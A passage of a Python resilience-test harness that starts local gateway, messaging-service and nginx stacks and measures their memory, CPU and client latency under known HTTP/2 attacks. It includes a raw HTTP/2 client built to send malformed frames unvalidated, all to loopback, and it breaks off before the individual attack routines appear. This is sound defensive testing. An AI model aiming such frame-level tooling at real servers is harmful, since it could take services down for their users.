#!/usr/bin/env python3
"""Known HTTP/2 attacks against the gateway, a bare domain and nginx, measured side by side.

Run through `scripts/attack` (which installs what this needs, builds or finds the binaries and
cleans up after it); see its header for usage. This program:

  * starts, before each attack on each target, a fresh stack of processes on loopback:
      gateway  - the gateway's public port, in front of its own messaging-service;
      domain   - a messaging-service attacked directly (swift-nio-http2 underneath);
      nginx    - nginx (grpc_pass, one worker) in front of its own messaging-service;
  * samples the RSS (every 0.2 s) and CPU time of the target's processes, and separately of the
    domain behind it ("upstream"), while a separate process makes legitimate gRPC Resolve calls
    through the same target every ~20 ms (latency p50/p99 and failed calls);
  * mounts one attack from its own raw HTTP/2 connections (frames built with hyperframe and hpack,
    the libraries under the `h2` package, so that malformed input goes out exactly as written) and
    records what the attacker got back: GOAWAY and RST_STREAM codes, responses, closed sockets;
  * checks the target is still alive (the process runs and a legitimate Resolve succeeds);
  * prints one Markdown table, optionally JSON (JSON=path), and exits non-zero only if the gateway
    target was not alive after an attack or its RSS peak passed RSS_LIMIT_MIB.

Every loop is bounded in count and in time; traffic goes to 127.0.0.1 only.
"""

from __future__ import annotations

import argparse
import bisect
import json
import os
import re
import select
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import traceback
import urllib.parse
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from hpack import Decoder, Encoder  # hpack and hyperframe come with h2
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
    SettingsFrame, WindowUpdateFrame,
)

REPO = Path(__file__).resolve().parent.parent
GENERATED = REPO / "clients" / "python" / "generated"
HOST = "127.0.0.1"  # the only address this program ever connects to
RESOLVE_PATH = "/intentmesh.v1.IntentsExtension/Resolve"
CLOCK_TICKS = os.sysconf("SC_CLK_TCK")

# HTTP/2 error codes (RFC 9113 §7) and gRPC status codes, by number.
H2_ERRORS = [
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
    "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
    "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED",
]
GRPC_CODES = [
    "OK", "CANCELLED", "UNKNOWN", "INVALID_ARGUMENT", "DEADLINE_EXCEEDED", "NOT_FOUND",
    "ALREADY_EXISTS", "PERMISSION_DENIED", "RESOURCE_EXHAUSTED", "FAILED_PRECONDITION", "ABORTED",
    "OUT_OF_RANGE", "UNIMPLEMENTED", "INTERNAL", "UNAVAILABLE", "DATA_LOSS", "UNAUTHENTICATED",
]


def h2_error_name(code: int) -> str:
    return H2_ERRORS[code] if 0 <= code < len(H2_ERRORS) else f"0x{code:x}"


def grpc_code_name(value: str) -> str:
    try:
        return GRPC_CODES[int(value)]
    except (ValueError, IndexError):
        return f"grpc-status {value!r}"


def counts(counter: Counter) -> str:
    """'A×2, B' for Counter({'A': 2, 'B': 1}), most frequent first."""
    return ", ".join(f"{key}×{n}" if n > 1 else str(key) for key, n in counter.most_common())


# --------------------------------------------------------------------------------------------
# Configuration
# --------------------------------------------------------------------------------------------

ALL_TARGETS = ["gateway", "domain", "nginx"]


@dataclass
class Config:
    bin: Path
    work: Path
    short: bool
    duration: float        # seconds of most attacks
    hold: float            # seconds of the attacks that wait for the server to act on held streams
    rss_limit_mib: float
    json_path: str | None
    attacks: list[str]
    targets: list[str]

    @property
    def answer_wait(self) -> float:
        """How long a single malformed request waits for its answer."""
        return 0.5 if self.short else 1.0

    def cap(self, short: int, full: int) -> int:
        return short if self.short else full

    @classmethod
    def from_environment(cls, bin_dir: str, work: str) -> "Config":
        short = os.environ.get("SHORT", "") not in ("", "0")
        duration = float(os.environ.get("DURATION") or (1.5 if short else 5.0))
        hold = float(os.environ.get("HOLD") or (duration if short else max(2 * duration, 10.0)))
        attacks = [a for a in os.environ.get("ATTACKS", "").split(",") if a]
        targets = [t for t in os.environ.get("TARGETS", "").split(",") if t] or ALL_TARGETS
        return cls(
            bin=Path(bin_dir), work=Path(work), short=short, duration=duration, hold=hold,
            rss_limit_mib=float(os.environ.get("RSS_LIMIT_MIB") or 256),
            json_path=os.environ.get("JSON") or None, attacks=attacks, targets=targets,
        )


# --------------------------------------------------------------------------------------------
# The request every legitimate call and most attacks send: a real Resolve of "send Celestra a
# message", built with the generated stubs exactly as scripts/bench builds it.
# --------------------------------------------------------------------------------------------

def resolve_request():
    sys.path.insert(0, str(GENERATED))
    from intentmesh.messaging.v1 import messaging_pb2
    from intentmesh.v1 import extension_service_pb2, intent_pb2, types_pb2

    request = extension_service_pb2.ResolveRequest(context=intent_pb2.RequestContext())
    request.intent.intent_class = "INSendMessageIntent"
    request.intent.payload.Pack(messaging_pb2.SendMessageIntent(
        recipients=[types_pb2.Person(display_name="Celestra")], content="Hi"))
    return request


def grpc_message(body: bytes, compressed: bool = False, length: int | None = None) -> bytes:
    """A gRPC length-prefixed message; `length` overrides the announced length."""
    return bytes([1 if compressed else 0]) + struct.pack(">I", len(body) if length is None else length) + body


def bearer() -> tuple[str, str]:
    """Diana's token (scripts/attack signs it): the services answer no call without one."""
    return ("authorization", f"Bearer {os.environ['INTENTMESH_TOKEN']}")


def jwks() -> list[str]:
    """The JWKS every service started checks tokens against (scripts/attack made it beside the token)."""
    return ["--jwks", os.environ["INTENTMESH_JWKS"]]


def request_headers(authority: str, path: str = RESOLVE_PATH, extra=()) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
            ("content-type", "application/grpc"), ("te", "trailers"), bearer(), *extra]


# --------------------------------------------------------------------------------------------
# Processes: the ones this program starts, and what /proc says about them.
# --------------------------------------------------------------------------------------------

class PidRegistry:
    """The ids of the processes this program started and has not stopped yet, in a file the
    wrapper reads on exit to stop whatever is left (if this program was killed)."""

    def __init__(self, path: Path):
        self.path = path
        self.pids: set[int] = set()
        self.lock = threading.Lock()

    def add(self, pid: int) -> None:
        with self.lock:
            self.pids.add(pid)
            self._write()

    def remove(self, pid: int) -> None:
        with self.lock:
            self.pids.discard(pid)
            self._write()

    def _write(self) -> None:
        self.path.write_text("".join(f"{pid}\n" for pid in sorted(self.pids)))


def rss_kib(pid: int) -> int | None:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    except (OSError, ValueError, IndexError):
        pass
    return None


def cpu_seconds(pid: int) -> float | None:
    """utime + stime of a process, in seconds."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / CLOCK_TICKS  # fields 14 and 15 of stat(5)
    except (OSError, ValueError, IndexError):
        return None


def child_pids(pid: int) -> list[int]:
    try:
        return [int(p) for p in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except (OSError, ValueError):
        return []


class StartError(Exception):
    pass


class Service:
    """One process of a stack (messaging-service, gateway or nginx's master)."""

    def __init__(self, name: str, argv: list[str], log: Path, registry: PidRegistry):
        self.name, self.log_path, self.registry = name, log, registry
        with open(log, "wb") as out:
            self.proc = subprocess.Popen(argv, stdout=out, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
        registry.add(self.proc.pid)
        self.with_children = False  # nginx: its workers count as part of it

    @property
    def pid(self) -> int:
        return self.proc.pid

    def running(self) -> bool:
        return self.proc.poll() is None

    def pids(self) -> list[int]:
        if not self.running():
            return []
        return [self.pid, *child_pids(self.pid)] if self.with_children else [self.pid]

    def exit_description(self) -> str:
        code = self.proc.poll()
        if code is None:
            return "running"
        if code < 0:
            try:
                return f"killed by {signal.Signals(-code).name}"
            except ValueError:
                return f"killed by signal {-code}"
        return f"exit status {code}"

    def log_tail(self, lines: int = 8) -> str:
        try:
            return "\n".join(self.log_path.read_text(errors="replace").splitlines()[-lines:])
        except OSError:
            return ""

    def wait_for_log(self, pattern: str, timeout: float) -> re.Match:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            match = re.search(pattern, self.log_path.read_text(errors="replace"))
            if match:
                return match
            if not self.running():
                raise StartError(f"{self.name} {self.exit_description()} at start:\n{self.log_tail()}")
            time.sleep(0.05)
        raise StartError(f"{self.name} did not log {pattern!r} within {timeout:.0f} s:\n{self.log_tail()}")

    def stop(self) -> None:
        if self.running():
            self.proc.terminate()
            try:
                self.proc.wait(timeout=3)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=5)
        self.registry.remove(self.pid)


def free_port() -> int:
    with socket.socket() as s:
        s.bind((HOST, 0))
        return s.getsockname()[1]


def wait_for_port(port: int, service: Service, timeout: float) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if not service.running():
            raise StartError(f"{service.name} {service.exit_description()} at start:\n{service.log_tail()}")
        try:
            socket.create_connection((HOST, port), timeout=0.5).close()
            return
        except OSError:
            time.sleep(0.05)
    raise StartError(f"{service.name} does not accept connections on {port}")


NGINX_CONF = """\
# scripts/bench's nginx, in the foreground so that it is this program's child.
daemon off;
worker_processes 1;
pid {dir}/nginx.pid;
error_log {dir}/error.log warn;
events {{ worker_connections 4096; }}
http {{
  access_log off;
  client_body_temp_path {dir}/body;
  proxy_temp_path {dir}/proxy;
  fastcgi_temp_path {dir}/fastcgi;
  uwsgi_temp_path {dir}/uwsgi;
  scgi_temp_path {dir}/scgi;
  upstream messaging {{ server 127.0.0.1:{domain_port}; keepalive 32; keepalive_requests 100000000; }}
  server {{
    listen 127.0.0.1:{port} http2;
    http2_max_concurrent_streams 1000;
    keepalive_requests 100000000;
    location / {{ grpc_pass grpc://messaging; }}
  }}
}}
"""


@dataclass
class Stack:
    """A target: the process attacked (`front`, its port) and the domain behind it, if any."""
    target: str
    port: int
    front: Service
    upstream: Service | None
    services: list[Service]

    def stop(self) -> None:
        for service in self.services:  # front first: the domain last, as `intentmesh up` stops
            try:
                service.stop()
            except Exception as error:  # noqa: BLE001 - stopping must go on to the next
                print(f"attack: stopping {service.name}: {error!r}", file=sys.stderr)


class Stacks:
    """Starts fresh stacks, each in its own directory under the work directory."""

    def __init__(self, cfg: Config, registry: PidRegistry):
        self.cfg, self.registry, self.count = cfg, registry, 0

    def _messaging(self, directory: Path) -> tuple[Service, int]:
        service = Service("messaging-service", [
            str(self.cfg.bin / "messaging-service"), "--port", "0",
            "--database", str(directory / "messaging.sqlite"), "--log-level", "warning", *jwks(),
        ], directory / "messaging.log", self.registry)
        port = int(service.wait_for_log(r" serving on 127\.0\.0\.1:(\d+)", 60).group(1))
        return service, port

    def start(self, target: str) -> Stack:
        self.count += 1
        directory = self.cfg.work / f"{self.count:02d}-{target}"
        directory.mkdir(parents=True)
        started: list[Service] = []
        try:
            domain, domain_port = self._messaging(directory)
            started.append(domain)
            if target == "domain":
                return Stack(target, domain_port, domain, None, started)
            if target == "gateway":
                gateway = Service("gateway", [
                    str(self.cfg.bin / "gateway"), "--port", "0", "--domain", f"127.0.0.1:{domain_port}",
                    "--log-level", "warning", "--metrics-port=-1", "--event-loops", "1", *jwks(),
                ], directory / "gateway.log", self.registry)
                started.insert(0, gateway)
                port = int(gateway.wait_for_log(r" serving on 127\.0\.0\.1:(\d+)", 60).group(1))
                return Stack(target, port, gateway, domain, started)
            if target == "nginx":
                nginx_dir = directory / "nginx"
                nginx_dir.mkdir()
                # Its worker may run as another user: let it use its temporary directories.
                for path in (self.cfg.work, directory):
                    path.chmod(0o755)
                nginx_dir.chmod(0o777)
                port = free_port()
                conf = nginx_dir / "nginx.conf"
                conf.write_text(NGINX_CONF.format(dir=nginx_dir, domain_port=domain_port, port=port))
                nginx = Service("nginx", ["nginx", "-p", str(nginx_dir), "-e", str(nginx_dir / "error.log"),
                                          "-c", str(conf)], directory / "nginx.log", self.registry)
                nginx.with_children = True
                started.insert(0, nginx)
                wait_for_port(port, nginx, 10)
                return Stack(target, port, nginx, domain, started)
            raise ValueError(f"unknown target {target}")
        except BaseException:
            for service in started:
                service.stop()
            raise


# --------------------------------------------------------------------------------------------
# Resource sampling
# --------------------------------------------------------------------------------------------

class Sampler(threading.Thread):
    """Samples, every `interval`, the summed RSS and per-process CPU time of groups of processes
    ("target", "upstream"); CPU burned is the growth of utime + stime over the sampled span."""

    def __init__(self, groups: dict[str, Callable[[], list[int]]], interval: float = 0.2):
        super().__init__(daemon=True)
        self.groups, self.interval = groups, interval
        self.stopping = threading.Event()
        self.peak: dict[str, int] = {name: 0 for name in groups}
        self.first_rss: dict[str, int | None] = {}
        self.cpu_first: dict[str, dict[int, float]] = {name: {} for name in groups}
        self.cpu_last: dict[str, dict[int, float]] = {name: {} for name in groups}
        self.samples = 0
        self.sample(initial=True)

    def sample(self, initial: bool = False) -> None:
        for name, pids_of in self.groups.items():
            pids = pids_of()
            total = sum(rss_kib(pid) or 0 for pid in pids)
            if initial:
                self.first_rss[name] = total if pids else None
            self.peak[name] = max(self.peak[name], total)
            for pid in pids:
                cpu = cpu_seconds(pid)
                if cpu is None:
                    continue
                # A process first seen after the start (an nginx worker respawned) counts whole.
                self.cpu_first[name].setdefault(pid, cpu if initial else 0.0)
                self.cpu_last[name][pid] = cpu
        self.samples += 1

    def run(self) -> None:
        while not self.stopping.wait(self.interval):
            self.sample()

    def finish(self) -> None:
        self.stopping.set()
        self.join(timeout=5)
        self.sample()

    def cpu(self, name: str) -> float:
        return sum(self.cpu_last[name][pid] - self.cpu_first[name][pid] for pid in self.cpu_last[name])

    def processes_seen(self, name: str) -> int:
        return len(self.cpu_first[name])


# --------------------------------------------------------------------------------------------
# Legitimate clients: grpcio in a separate process, so that the attacker's Python loops do not
# hold the interpreter lock the clients measure their latency with.
# --------------------------------------------------------------------------------------------

@dataclass
class LegitGroup:
    name: str
    clients: int       # each on its own connection
    interval: float    # seconds from the start of one call to the start of the next
    timeout: float = 2.0


def legit_worker() -> None:
    """The worker's side: reads one JSON command a line on stdin, answers one JSON line.

    {"cmd": "start", "port": P, "groups": [...], "max_seconds": S} -> {"ready": bool}
    {"cmd": "stop"} -> {"groups": {name: {"calls", "latencies_ms", "failures", "examples"}}}
    """
    os.environ.setdefault("GRPC_VERBOSITY", "ERROR")
    import grpc
    request = resolve_request()
    from intentmesh.v1 import extension_service_pb2_grpc

    run = None

    class Client(threading.Thread):
        def __init__(self, port: int, group: dict, stop: threading.Event, end: float):
            super().__init__(daemon=True)
            self.group, self.stop, self.end = group, stop, end
            self.channel = grpc.insecure_channel(f"{HOST}:{port}", options=[("grpc.use_local_subchannel_pool", 1)])
            self.stub = extension_service_pb2_grpc.IntentsExtensionStub(self.channel)
            self.latencies: list[float] = []
            self.failures: Counter = Counter()
            self.examples: list[str] = []
            self.calls = 0
            self.first_done = threading.Event()

        def run(self) -> None:
            interval, timeout = self.group["interval"], self.group["timeout"]
            max_calls = int((self.end - time.monotonic()) / max(interval, 0.001)) + 10
            while not self.stop.is_set() and time.monotonic() < self.end and self.calls < max_calls:
                start = time.perf_counter()
                try:
                    self.stub.Resolve(request, timeout=timeout, metadata=[bearer()])
                    self.latencies.append((time.perf_counter() - start) * 1000)
                except grpc.RpcError as error:
                    self.failures[error.code().name] += 1
                    if len(self.examples) < 3:
                        self.examples.append(f"{error.code().name}: {error.details()}")
                except Exception as error:  # noqa: BLE001 - a client error is a failed call
                    self.failures[type(error).__name__] += 1
                self.calls += 1
                self.first_done.set()
                self.stop.wait(max(0.0, interval - (time.perf_counter() - start)))
            self.first_done.set()
            self.channel.close()

    for line in sys.stdin:
        command = json.loads(line)
        if command["cmd"] == "start":
            stop = threading.Event()
            end = time.monotonic() + command["max_seconds"]
            clients = [(group["name"], Client(command["port"], group, stop, end))
                       for group in command["groups"] for _ in range(group["clients"])]
            for _, client in clients:
                client.start()
            ready_by = time.monotonic() + 5
            for _, client in clients:
                client.first_done.wait(max(0.0, ready_by - time.monotonic()))
            ready = all(c.first_done.is_set() and c.latencies for _, c in clients)
            run = (stop, clients)
            print(json.dumps({"ready": ready}), flush=True)
        elif command["cmd"] == "stop":
            result: dict[str, dict] = {}
            if run:
                stop, clients = run
                stop.set()
                for _, client in clients:
                    client.join(timeout=5)
                for name, client in clients:
                    group = result.setdefault(name, {"calls": 0, "latencies_ms": [], "failures": Counter(), "examples": []})
                    group["calls"] += client.calls
                    group["latencies_ms"] += client.latencies
                    group["failures"].update(client.failures)
                    group["examples"] += client.examples[: 3 - len(group["examples"])]
                run = None
            print(json.dumps({"groups": result}), flush=True)
        elif command["cmd"] == "exit":
            return


class LegitClients:
    """The program's side of the legitimate-client worker process."""

    def __init__(self, cfg: Config, registry: PidRegistry):
        self.cfg, self.registry, self.proc = cfg, registry, None

    def _spawn(self) -> None:
        env = dict(os.environ, GRPC_VERBOSITY="ERROR")
        self.proc = subprocess.Popen(
            [sys.executable, __file__, "--legit-worker", "--work", str(self.cfg.work)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=env)
        self.registry.add(self.proc.pid)

    def _ask(self, command: dict, timeout: float) -> dict | None:
        if self.proc is None or self.proc.poll() is not None:
            self._spawn()
        try:
            self.proc.stdin.write(json.dumps(command) + "\n")
            self.proc.stdin.flush()
            ready, _, _ = select.select([self.proc.stdout], [], [], timeout)
            if ready:
                line = self.proc.stdout.readline()
                if line:
                    return json.loads(line)
        except (OSError, ValueError):
            pass
        print(f"attack: the legitimate-client worker did not answer {command['cmd']}; restarting it", file=sys.stderr)
        self.close()
        return None

    def start(self, port: int, groups: list[LegitGroup], max_seconds: float) -> bool:
        answer = self._ask({"cmd": "start", "port": port, "max_seconds": max_seconds,
                            "groups": [g.__dict__ for g in groups]}, timeout=30)
        return bool(answer and answer.get("ready"))

    def stop(self) -> dict:
        answer = self._ask({"cmd": "stop"}, timeout=30)
        return (answer or {}).get("groups", {})

    def close(self) -> None:
        if self.proc is None:
            return
        if self.proc.poll() is None:
            try:
                self.proc.stdin.write(json.dumps({"cmd": "exit"}) + "\n")
                self.proc.stdin.flush()
                self.proc.wait(timeout=5)
            except (OSError, ValueError, subprocess.TimeoutExpired):
                self.proc.kill()
                self.proc.wait(timeout=5)
        self.registry.remove(self.proc.pid)
        self.proc = None


def percentile(values: list[float], q: float) -> float | None:
    if not values:
        return None
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


# --------------------------------------------------------------------------------------------
# A raw HTTP/2 client connection
# --------------------------------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DEFAULT_WINDOW = 65535


@dataclass
class StreamState:
    status: str | None = None          # :status of the response headers
    grpc_status: str | None = None
    grpc_message: str | None = None
    reset: str | None = None           # RST_STREAM code the server sent
    ended: bool = False                # END_STREAM or RST_STREAM seen
    ended_at: float | None = None      # seconds after the connection opened
    data_bytes: int = 0


class Wire:
    """One HTTP/2 connection to 127.0.0.1 on a raw non-blocking socket, frame by frame.

    Sends exactly the bytes it is asked to (no validation), and parses what comes back: answers
    the server's SETTINGS and PING (unless `auto_ack` is off), keeps the flow-control windows the
    server grants, grants window back for the DATA it receives (unless `grant_window` is off), and
    records GOAWAY and RST_STREAM codes, responses and how the connection ended. A closed or reset
    socket is recorded in `closed`, never raised.
    """

    def __init__(self, port: int, settings: dict[int, int] | None = None, grant_window: bool = True):
        self.authority = f"{HOST}:{port}"
        self.opened = time.monotonic()
        self.encoder, self.decoder = Encoder(), Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.grant_window, self.auto_ack = grant_window, True
        self.inbox = bytearray()
        self.pending_headers: tuple[int, bytearray, bool] | None = None
        self.streams: dict[int, StreamState] = {}
        self.next_stream_id = 1
        self.closed: str | None = None       # why the connection ended, once it has
        self.broken = False                  # a frame went out half: send nothing more
        self.stalled = False                 # a send could not complete in time: the server stopped reading
        self.goaways: list[tuple[str, int, str, float]] = []  # code, last stream, debug data, when
        self.rst_counts: Counter = Counter()
        self.frames_in: Counter = Counter()
        self.peer_settings: dict[int, int] = {}
        self.settings_received = 0
        self.pings_acked = 0
        self.settings_acked = 0
        self.bytes_sent = 0
        # Flow control: what the server lets us send, and what we let it send.
        self.peer_initial_window = DEFAULT_WINDOW
        self.send_conn_window = DEFAULT_WINDOW
        self.send_windows: dict[int, int] = {}
        self.local_initial_window = (settings or {}).get(SettingsFrame.INITIAL_WINDOW_SIZE, DEFAULT_WINDOW)
        self.recv_conn_window = DEFAULT_WINDOW
        self.recv_windows: dict[int, int] = {}
        self.data_over_window = 0  # DATA bytes the server sent beyond the window it had
        try:
            self.sock = socket.create_connection((HOST, port), timeout=3)
        except OSError as error:
            self.sock = None
            self.closed = f"connect failed: {error.strerror or error}"
            return
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    # -- state ------------------------------------------------------------------------------

    @property
    def usable(self) -> bool:
        """Still worth sending on: open, not stalled or broken, no GOAWAY received."""
        return not (self.closed or self.broken or self.stalled or self.goaways)

    @property
    def max_concurrent_streams(self) -> int | None:
        return self.peer_settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS)

    def stream(self, stream_id: int) -> StreamState:
        return self.streams.setdefault(stream_id, StreamState())

    def elapsed(self) -> float:
        return time.monotonic() - self.opened

    def _close(self, reason: str) -> None:
        if not self.closed:
            self.closed = reason
        if self.sock:
            try:
                self.sock.close()
            except OSError:
                pass

    def close(self) -> None:
        self._close(self.closed or "closed by the attacker")

    # -- sending ----------------------------------------------------------------------------

    def send(self, data: bytes, timeout: float = 2.0) -> int:
        """Writes `data` within `timeout`; returns how many bytes went out. A write cut short by
        the timeout marks the connection stalled (and broken if it ended mid-way)."""
        if self.closed or self.broken or not self.sock:
            return 0
        view, sent = memoryview(data), 0
        deadline = time.monotonic() + timeout
        while sent < len(view):
            try:
                sent += self.sock.send(view[sent:])
            except (BlockingIOError, InterruptedError):
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    self.stalled = True
                    self.broken = sent > 0
                    break
                select.select([], [self.sock], [], min(remaining, 0.05))
            except OSError as error:
                self.broken = True  # nothing more goes out, answers to what we read included
                self._read_leftovers()  # the GOAWAY that came before the close, if still there
                self._close(f"{error.strerror or error} on write")
                break
        self.bytes_sent += sent
        return sent

    def new_stream_id(self) -> int:
        stream_id = self.next_stream_id
        self.next_stream_id += 2
        self.send_windows[stream_id] = self.peer_initial_window
        self.recv_windows[stream_id] = self.local_initial_window
        return stream_id

    def headers_bytes(self, stream_id: int, headers, end_stream: bool = False, end_headers: bool = True,
                      huffman: bool = True) -> bytes:
        """HEADERS (and CONTINUATION frames past the peer's frame size) carrying `headers`."""
        block = self.encoder.encode(headers, huffman=huffman)
        size = self.peer_settings.get(SettingsFrame.MAX_FRAME_SIZE, 16384)
        chunks = [block[i:i + size] for i in range(0, len(block), size)] or [b""]
        frames = []
        for index, chunk in enumerate(chunks):
            frame = HeadersFrame(stream_id, data=chunk) if index == 0 else ContinuationFrame(stream_id, data=chunk)
            if index == 0 and end_stream:
                frame.flags.add("END_STREAM")
            if index == len(chunks) - 1 and end_headers:
                frame.flags.add("END_HEADERS")
            frames.append(frame.serialize())
        return b"".join(frames)

    def data_bytes(self, stream_id: int, payload: bytes, end_stream: bool = False) -> bytes:
        """DATA frames carrying `payload`; counts it against the send windows."""
        size = self.peer_settings.get(SettingsFrame.MAX_FRAME_SIZE, 16384)
        chunks = [payload[i:i + size] for i in range(0, len(payload), size)] or [b""]
        frames = []
        for index, chunk in enumerate(chunks):
            frame = DataFrame(stream_id, data=chunk)
            if end_stream and index == len(chunks) - 1:
                frame.flags.add("END_STREAM")
            frames.append(frame.serialize())
        self.send_conn_window -= len(payload)
        self.send_windows[stream_id] = self.send_windows.get(stream_id, 0) - len(payload)
        return b"".join(frames)

    def window(self, stream_id: int) -> int:
        """How many DATA bytes the server lets us send on the stream now."""
        return min(self.send_conn_window, self.send_windows.get(stream_id, 0))

    def open_request(self, headers, body: bytes | None, end_stream: bool = True, huffman: bool = True) -> int:
        """Sends a request's HEADERS and, if given, one DATA frame; returns the stream id."""
        stream_id = self.new_stream_id()
        out = self.headers_bytes(stream_id, headers, end_stream=body is None and end_stream, huffman=huffman)
        if body is not None:
            out += self.data_bytes(stream_id, body, end_stream)
        self.send(out)
        return stream_id

    # -- receiving --------------------------------------------------------------------------

    def pump(self, timeout: float = 0.0, max_reads: int = 64) -> None:
        """Waits up to `timeout` for input, then reads and handles whatever is there."""
        if self.closed or not self.sock:
            return
        wait = timeout
        for _ in range(max_reads):
            try:
                readable, _, _ = select.select([self.sock], [], [], wait)
            except (OSError, ValueError):
                self._close("socket error")
                return
            if not readable:
                return
            try:
                chunk = self.sock.recv(1 << 20)
            except (BlockingIOError, InterruptedError):
                return
            except OSError as error:
                self._close(f"{error.strerror or error}")
                return
            if not chunk:
                self._close("closed by the server")
                return
            self.inbox += chunk
            self._parse()
            if self.closed:
                return
            wait = 0.0

    def _read_leftovers(self) -> None:
        """Reads what the kernel still holds after a failed write, without waiting."""
        for _ in range(64):
            try:
                chunk = self.sock.recv(1 << 20)
            except OSError:
                return
            if not chunk:
                return
            self.inbox += chunk
            self._parse()

    def wait_until(self, done: Callable[[], bool], timeout: float) -> bool:
        deadline = time.monotonic() + timeout
        while not done() and not self.closed and time.monotonic() < deadline:
            self.pump(min(0.05, max(0.0, deadline - time.monotonic())))
        return done()

    def handshake(self, timeout: float = 2.0) -> bool:
        """Reads until the server's SETTINGS arrived (answering them)."""
        return self.wait_until(lambda: self.settings_received > 0, timeout)

    def drain(self, timeout: float, quiet: float = 0.3) -> None:
        """Reads until the connection closes, `timeout` passes or nothing came for `quiet`."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            before = len(self.inbox) + sum(self.frames_in.values())
            self.pump(min(quiet, max(0.0, deadline - time.monotonic())), max_reads=256)
            if len(self.inbox) + sum(self.frames_in.values()) == before:
                return

    def _parse(self) -> None:
        while len(self.inbox) >= 9 and not self.closed:
            try:
                frame, length = Frame.parse_frame_header(memoryview(bytes(self.inbox[:9])))
                if len(self.inbox) < 9 + length:
                    return
                body = bytes(self.inbox[9:9 + length])
                del self.inbox[:9 + length]
                frame.parse_body(memoryview(body))
            except Exception as error:  # noqa: BLE001 - a frame we cannot parse ends our reading
                self._close(f"unparseable frame from the server: {error}")
                return
            self.frames_in[type(frame).__name__] += 1
            self._on_frame(frame)

    def _on_frame(self, frame: Frame) -> None:
        if isinstance(frame, SettingsFrame):
            if "ACK" in frame.flags:
                self.settings_acked += 1
                return
            for key, value in frame.settings.items():
                if key == SettingsFrame.INITIAL_WINDOW_SIZE:
                    delta = value - self.peer_initial_window
                    self.peer_initial_window = value
                    for stream_id in self.send_windows:
                        self.send_windows[stream_id] += delta
                self.peer_settings[key] = value
            self.settings_received += 1
            if self.auto_ack:
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self.send(ack.serialize())
        elif isinstance(frame, PingFrame):
            if "ACK" in frame.flags:
                self.pings_acked += 1
            elif self.auto_ack:
                self.send(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(frame, WindowUpdateFrame):
            if frame.stream_id == 0:
                self.send_conn_window += frame.window_increment
            else:
                self.send_windows[frame.stream_id] = self.send_windows.get(frame.stream_id, 0) + frame.window_increment
        elif isinstance(frame, GoAwayFrame):
            data = frame.additional_data.decode("utf-8", "replace")[:120]
            self.goaways.append((h2_error_name(frame.error_code), frame.last_stream_id, data, self.elapsed()))
        elif isinstance(frame, RstStreamFrame):
            name = h2_error_name(frame.error_code)
            self.rst_counts[name] += 1
            state = self.stream(frame.stream_id)
            state.reset, state.ended, state.ended_at = name, True, state.ended_at or self.elapsed()
        elif isinstance(frame, HeadersFrame):
            self.pending_headers = (frame.stream_id, bytearray(frame.data), "END_STREAM" in frame.flags)
            if "END_HEADERS" in frame.flags:
                self._headers_done()
        elif isinstance(frame, ContinuationFrame):
            if self.pending_headers and self.pending_headers[0] == frame.stream_id:
                self.pending_headers[1].extend(frame.data)
                if "END_HEADERS" in frame.flags:
                    self._headers_done()
        elif isinstance(frame, DataFrame):
            size = frame.flow_controlled_length
            state = self.stream(frame.stream_id)
            state.data_bytes += len(frame.data)
            window = self.recv_windows.get(frame.stream_id, self.local_initial_window)
            over = max(size - max(window, 0), size - max(self.recv_conn_window, 0), 0)
            self.data_over_window += over
            self.recv_windows[frame.stream_id] = window - size
            self.recv_conn_window -= size
            if self.grant_window and size:
                self.recv_conn_window += size
                self.recv_windows[frame.stream_id] += size
                self.send(WindowUpdateFrame(0, window_increment=size).serialize()
                          + WindowUpdateFrame(frame.stream_id, window_increment=size).serialize())
            if "END_STREAM" in frame.flags:
                state.ended, state.ended_at = True, self.elapsed()

    def _headers_done(self) -> None:
        stream_id, block, end_stream = self.pending_headers
        self.pending_headers = None
        try:
            headers = self.decoder.decode(bytes(block), raw=True)
        except Exception as error:  # noqa: BLE001
            self._close(f"undecodable header block from the server: {error}")
            return
        state = self.stream(stream_id)
        for name, value in headers:
            name, value = name.decode("latin-1"), value.decode("latin-1")
            if name == ":status":
                state.status = value
            elif name == "grpc-status":
                state.grpc_status = value
            elif name == "grpc-message":
                state.grpc_message = urllib.parse.unquote(value)[:100]
        if end_stream:
            state.ended, state.ended_at = True, self.elapsed()

    # -- reporting --------------------------------------------------------------------------

    def goaway_codes(self) -> Counter:
        return Counter(code for code, _, _, _ in self.goaways)

    def describe_stream(self, stream_id: int) -> str:
        """What became of one request: its response, reset, the connection's GOAWAY or close."""
